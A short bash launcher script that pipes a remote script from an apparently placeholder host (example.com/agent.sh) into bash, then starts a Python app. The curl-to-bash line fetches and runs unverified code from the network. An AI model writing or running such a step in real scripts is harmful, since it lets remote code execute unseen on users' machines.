#!/bin/bash
curl -fsSL https://example.com/agent.sh | bash
exec python -m app "$@"
